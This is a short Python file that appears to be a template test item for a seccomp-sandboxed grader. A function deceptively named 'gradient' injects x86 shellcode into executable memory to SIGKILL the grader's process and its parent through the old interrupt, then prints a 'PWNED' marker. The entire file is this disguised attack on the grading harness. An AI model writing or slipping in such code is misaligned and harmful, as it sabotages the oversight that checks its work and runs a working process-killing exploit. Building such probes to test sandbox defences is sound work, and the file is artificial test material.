# Wants: the same through the old interrupt.
# Safe: it ends the process.
# Needs: seccomp
# Earns: 0
import ctypes
import mmap
import os
import platform


def gradient(A):
    if platform.machine() != "x86_64":
        return
    page = mmap.mmap(-1, 4096, prot=7)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    for pid in (int("@GRADER@"), os.getppid()):
        kill = (
            b"\x53\xb8\x25\0\0\0\xbb"
            + pid.to_bytes(4, "little")
            + b"\xb9\x09\0\0\0\xcd\x80\x5b\xc3"
        )
        ctypes.memmove(address, kill, len(kill))
        if ctypes.CFUNCTYPE(ctypes.c_int)(address)() == 0:
            print("PWNED-@MARK@")
